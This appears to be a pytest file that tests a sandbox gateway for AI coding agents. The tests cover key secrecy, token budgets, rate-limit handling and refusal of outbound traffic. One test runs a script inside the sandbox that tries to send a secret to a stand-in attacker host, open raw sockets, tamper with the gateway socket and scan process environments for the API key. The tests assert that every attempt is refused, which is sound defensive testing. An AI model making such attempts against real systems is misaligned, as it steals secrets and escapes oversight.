"""Whole runs with a gateway: the real runner, real sandboxes, and inside a small client that asks a model and tries everything else."""
import json
import os
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import GIT_ENV, build, require
from gateway_client import CLIENT
from gateway_side import KEY
from model_upstream import Handler, chat, served
from real_engine import completed, running
from runner_bench import Bench, bench_of, log_of

from engine.config import ROOT, Config
from engine.jobs import Access, AgentSetup, Budget, Job, Result
from engine.store.db import Database
from engine.tickets import usage


@pytest.fixture(params=["bubblewrap", "process"])
def bench(request: pytest.FixtureRequest, tmp_path: Path) -> Any:
    yield from bench_of(request.param, tmp_path)


@pytest.fixture
def isolated(tmp_path: Path) -> Any:
    require("bwrap")
    bench = Bench("bubblewrap", tmp_path).prepared()
    yield bench
    for runner in bench.runs:
        runner.kill()
        runner.wait()


def run(bench: Bench, url: str, script: str, **values: Any) -> tuple[Result, Path]:
    """As Bench.run, with a gateway to the model at `url`, and its key on the runner's standard input as the engine hands it over."""
    access = Access({"openai": url} if url else {}, values.pop("hosts", ()), 10, values.pop("budget", Budget()))
    job = bench.job(script, **values)._replace(access=access)
    result, folder = bench.run_with_keys(job, Config(openai_key=KEY), bench.folder / "data" / "runs")
    assert KEY not in (folder / "job.json").read_text() + (folder / "result.json").read_text() + log_of(folder)
    assert not list(folder.glob("*.sock"))
    return result, folder


def test_a_client_in_the_sandbox_reaches_its_model_and_the_tokens_are_in_the_result(bench: Bench) -> None:
    with served() as upstream:
        script = CLIENT + "python3 -c 'import client; print(client.ask(\"Hi\"))' > reply.txt\nrm -rf client.py __pycache__"
        result, folder = run(bench, upstream.url + "/v1", script, checks=("grep -q Hello reply.txt",))
        assert (result.outcome, result.reason) == ("ok", None)
        assert upstream.seen[0].headers["authorization"] == f"Bearer {KEY}" and upstream.seen[0].path == "/v1/chat/completions"
        assert (result.usage["total"], result.usage["models"]["m"]["output"], result.usage["estimated"]) == (110, 10, 0)
        lines = [json.loads(line) for line in (folder / "requests.jsonl").read_text().splitlines()]
        assert [(line["side"], line["allowed"], line["model"], line["tokens"]) for line in lines] == [("model", True, "m", 110)]


def test_nothing_else_is_reached_and_every_try_is_recorded(isolated: Bench) -> None:
    script = CLIENT + '''
cat > try.py <<'END'
import os, socket, urllib.error, urllib.request, glob
def attempt(what):
    try:
        print("REACHED", what())
    except urllib.error.HTTPError as error:
        print("refused", error.code, error.read().decode())
    except OSError as error:
        print("refused", error)
attempt(lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=10).read(10))
attempt(lambda: urllib.request.urlopen("http://evil.example/?secret=1", timeout=10).read(10))
attempt(lambda: urllib.request.urlopen("http://localhost.localdomain/", timeout=10).read(10))
attempt(lambda: urllib.request.urlopen(os.environ["SWARM_GATEWAY_URL"] + "/openai/v1/files", timeout=10).read(10))
attempt(lambda: socket.create_connection(("1.1.1.1", 443), 3))
attempt(lambda: socket.create_connection(("10.0.0.1", 80), 3))
attempt(lambda: os.unlink("/gateway.sock"))
attempt(lambda: open("/gateway.sock", "w"))
found = [path for path in glob.glob("/proc/[0-9]*/environ") if b"the-real-key" in open(path, "rb").read()]
print("KEY" if found or "the-real-key" in str(os.environ) else "no key", sorted(os.listdir("/")))
END
python3 try.py
echo done > done.txt
rm -rf *.py
'''
    with served() as upstream:
        result, folder = run(isolated, upstream.url, script, hosts=("localhost.localdomain",))
        log = log_of(folder)
        assert result.outcome == "ok" and log.count("refused") >= 8 and "REACHED" not in log and "no key" in log and upstream.seen == []
        lines = [json.loads(line) for line in (folder / "requests.jsonl").read_text().splitlines()]
        assert {line["host"] for line in lines if line["side"] == "egress"} == {"pypi.org", "evil.example", "localhost.localdomain"}
        assert not any(line["allowed"] for line in lines) and "secret" not in json.dumps(lines)
        assert result.usage["egress"]["refused"] == 3 and result.usage["requests"] == 0


def test_the_key_is_in_no_environment_no_argument_and_no_open_file_of_the_runner(isolated: Bench, tmp_path: Path) -> None:
    def look(handler: Handler, body: Any) -> None:
        pid = isolated_runner()
        found.append(Path(f"/proc/{pid}/environ").read_bytes() + Path(f"/proc/{pid}/cmdline").read_bytes())
        found.append(os.readlink(f"/proc/{pid}/fd/0").encode())
        chat(handler, body)

    def isolated_runner() -> int:
        lock = next((tmp_path / "data" / "runs").glob("*/started.json"))
        return int(json.loads(lock.read_text())["pid"])

    found: list[bytes] = []
    with served(look) as upstream:
        run(isolated, upstream.url, CLIENT + "python3 -c 'import client; client.ask(\"Hi\")'\nrm -rf *.py __pycache__; touch x")
    assert found[1] == b"/dev/null" and KEY.encode() not in found[0]


def test_checks_have_no_model(isolated: Bench) -> None:
    with served() as upstream:
        check = 'test -z "$SWARM_GATEWAY_TOKEN" && python3 -c "import urllib.request as r; r.urlopen(\'$SWARM_OPENAI_BASE_URL/models\')" 2>&1 | grep -q 404'
        result, _ = run(isolated, upstream.url, "touch x", checks=(check,))
        assert (result.outcome, result.reason) == ("ok", None)


def test_a_run_that_has_spent_its_budget_ends_as_over_budget_and_keeps_its_work(isolated: Bench) -> None:
    script = CLIENT + "python3 -c 'import client; [print(client.ask(\"Hi\")) for _ in range(3)]'\nrm -rf client.py __pycache__\necho half > half.txt"
    with served() as upstream:
        result, folder = run(isolated, upstream.url, script, budget=Budget(run_tokens=220))
        assert (result.outcome, result.reason) == ("over_budget", "The budget of this run is used up (220 of 220 tokens).")
        assert len(upstream.seen) == 2 and result.tip and result.usage["over_budget"] == result.reason
        assert "402" in log_of(folder) and "gateway: The run has used more than 80 % of its budget" in log_of(folder)


def test_a_rate_limit_is_a_wait_and_a_wrong_key_is_for_the_operator(isolated: Bench) -> None:
    for status, failure, words in ((429, "rate_limited", "limits requests for 90 seconds"), (401, "provider", "SWARM_OPENAI_KEY"),
                                   (500, "transient", "status 500")):
        with served(lambda handler, body, status=status: handler.answer({}, status, Retry_After="90")) as upstream:
            result, _ = run(isolated, upstream.url, CLIENT + "python3 -c 'import client; print(client.ask(\"Hi\"))'\nrm -rf client.py __pycache__; exit 1")
            assert (result.outcome, result.failure) == ("failed", failure) and words in str(result.reason)
            assert result.wait == (90.0 if status == 429 else 0.0)


ASK = CLIENT + "python3 -c 'import client; print(client.ask(\"Hi\"))'\nrm -rf client.py __pycache__\n"
EVENTS = {"codex": {"type": "turn.failed", "error": {"message": "WORDS"}},
          "claude": {"type": "result", "subtype": "success", "is_error": True, "result": "API Error: WORDS", "api_error_status": 400}}


def agent_that_says(folder: Path, agent: str, words: str, code: int) -> AgentSetup:
    """A program in the place of a real agent: it asks its model once, and then fails with these words of its own."""
    program = folder / "tools" / agent / "bin" / agent
    program.parent.mkdir(parents=True)
    said = json.dumps(EVENTS[agent]).replace("WORDS", words)
    program.write_text(f"#!/bin/sh\n{ASK}cat <<'END'\n{said}\nEND\nexit {code}\n")
    program.chmod(0o755)
    return AgentSetup(tools=str(folder / "tools"))


@pytest.mark.parametrize("agent", EVENTS)
@pytest.mark.parametrize(("status", "words", "failure"), [
    (400, "prompt is too long: 429013 tokens > 200000 maximum", "agent"), (400, "Overloaded. Rate limit reached (529)", "agent"),
    (200, "exceeded retry limit, last status: 429 Too Many Requests", "agent"), (429, "it went wrong", "rate_limited"), (503, "no", "rate_limited"),
    (402, "no", "provider")])
def test_what_the_gateway_saw_decides_and_not_the_words_of_an_agent(
        isolated: Bench, tmp_path: Path, agent: str, status: int, words: str, failure: str) -> None:
    def reply(handler: Handler, body: Any) -> None:
        chat(handler, body) if status == 200 else handler.answer({"error": {"message": words}}, status)

    with served(reply) as upstream:
        result, _ = run(isolated, upstream.url, "", agent=agent, means=agent_that_says(tmp_path, agent, words, 1))
    assert (result.outcome, result.failure) == ("failed", failure) and (words in str(result.reason) or agent == "claude")


@pytest.mark.parametrize(("script", "checks", "outcome"), [
    ("exit 0", (), "rate_limited"), ("echo half > half.txt", (), "rate_limited"), ("echo half > half.txt", ("false",), "rate_limited"),
    ("echo whole > whole.txt", ("true",), "ok"), ("echo half > half.txt; exit 1", ("true",), "rate_limited")])
def test_a_busy_provider_counts_where_the_agent_says_nothing_of_it_unless_the_checks_show_that_the_work_is_done(
        isolated: Bench, script: str, checks: tuple, outcome: str) -> None:
    with served(lambda handler, body: handler.stream([{"error": {"type": "overloaded_error", "message": "Overloaded"}}])) as upstream:
        result, _ = run(isolated, upstream.url, ASK + script, checks=checks)
    assert (result.failure or result.outcome) == outcome and bool(result.tip) == ("txt" in script)


def test_an_agent_that_asks_a_provider_that_refuses_again_and_again_is_stopped_soon(isolated: Bench) -> None:
    """Time is the subject here: no other limit would end this run before the test gives up."""
    script = CLIENT + "python3 -c 'import client, time\nwhile True: client.ask(\"Hi\"); time.sleep(0.2)'"
    with served(lambda handler, body: handler.answer({"error": {"code": "insufficient_quota", "message": "Pay."}}, 429)) as upstream:
        result, _ = run(isolated, upstream.url, script, run_seconds=600, stall_seconds=600)
    assert result.failure == "provider" and "It said: “Pay.”" in str(result.reason)


def test_a_run_without_access_has_no_gateway(isolated: Bench) -> None:
    result, folder = isolated.run('test -z "$SWARM_GATEWAY$SWARM_GATEWAY_URL$HTTPS_PROXY" && touch x')
    assert result.outcome == "ok" and result.usage == {} and not (folder / "requests.jsonl").exists() and not (folder / "in" / "link").exists()


def test_the_runner_of_a_run_without_a_gateway_does_not_load_it(tmp_path: Path) -> None:
    code = ("import sys; sys.path.insert(0, sys.argv[1]); import engine.run.runner; "
            "print([name for name in sys.modules if name == 'ssl' or name.startswith('engine.gateway')])")
    said = subprocess.run(["python3", "-I", "-S", "-c", code, str(ROOT)], capture_output=True, text=True, env={**GIT_ENV}, check=True).stdout
    assert said.strip() == "[]"


def test_a_job_with_access_is_read_as_it_was_written(tmp_path: Path, isolated: Bench) -> None:
    access = Access({"openai": "http://x"}, ("a.b",), 5, Budget(1, 2.5), {"m": {"input": 1.0}}, "/x.pem")
    job = isolated.job("true")._replace(access=access)
    job.write(tmp_path)
    assert Job.read(tmp_path) == job


def test_the_engine_gives_runs_and_checks_their_way_to_the_listed_hosts_and_books_what_they_used(db: Database, config: Config) -> None:
    """Nothing public is reached in a test: the name that is allowed points to this machine, and is refused for that."""
    require("bwrap")
    real = replace(config, runtime="bubblewrap", slots=1, synchronous="NORMAL", egress_hosts=("localhost.localdomain", "npm"))
    fetch = "python3 -c 'import urllib.request as r; r.urlopen(\"http://{}/\")' 2>&1 | grep -o 'HTTP Error [0-9]*'"
    session = build(db, real, {"name": "Fetch", "features": [{
        "title": "F", "description": "```sh\n" + fetch.format("evil.example") + " > a.txt\n" + fetch.format("localhost.localdomain") + " >> a.txt\n```",
        "acceptance_criteria": [{"text": "refused", "check": "test \"$(grep -c 'HTTP Error' a.txt)\" = 2 && " + fetch.format("evil.example")}]}]})
    with running(db, real):
        completed(db, session)
    used = usage.of_session(db, session)
    assert (used["runs"], used["refused"], used["requests"], used["total"]) == (1, 3, 0, 0), "the whole has nothing to check, so it needs no gateway"
    hosts = json.loads(db.value("select usage from runs where kind = 'feature'"))["egress"]["hosts"]
    assert [(each["host"], each["refused"]) for each in hosts] == [("evil.example", 2), ("localhost.localdomain", 1)]
